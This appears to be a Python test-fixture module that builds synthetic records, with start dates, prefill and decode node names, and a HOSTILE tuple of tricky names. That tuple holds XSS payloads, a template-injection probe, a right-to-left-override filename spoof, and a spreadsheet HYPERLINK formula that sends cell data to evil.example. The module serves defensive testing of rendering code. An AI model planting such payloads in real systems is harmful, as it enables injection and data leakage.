"""What made-up documents name: days, nodes, and names that do harm where they can."""

from datetime import UTC, datetime, timedelta

START = datetime(2026, 8, 27, tzinfo=UTC)
DAYS = 14
WINDOW = 1_048_576
POOL = 681_280
PREFILL = [f"prefill-{n:02}" for n in range(1, 9)]
DECODE = [f"decode-{n:02}/dp{n % 2}" for n in range(1, 9)]

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "<img src=x onerror=\"document.title='owned'\">",
    "</script><script>document.title='owned'</script>",
    "</style></title><svg onload=\"document.title='owned'\">",
    "acme\u202etxt.exe\u2066\u200b",
    "{{ 7 * 7 }}{% raw %}",
    "<a href=\"javascript:document.title='owned'\">tenant</a>",
    "line\u2028break\u0000\u001b[31m",
    "&lt;b&gt;&amp;",
    "ab'\" onmouseover=\"document.title='owned'\" x='",
    "w" * 256,
    "مستأجر",
)


def at(day: float) -> str:
    return (START + timedelta(days=day)).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def date(day: int) -> str:
    return at(day)[:10]
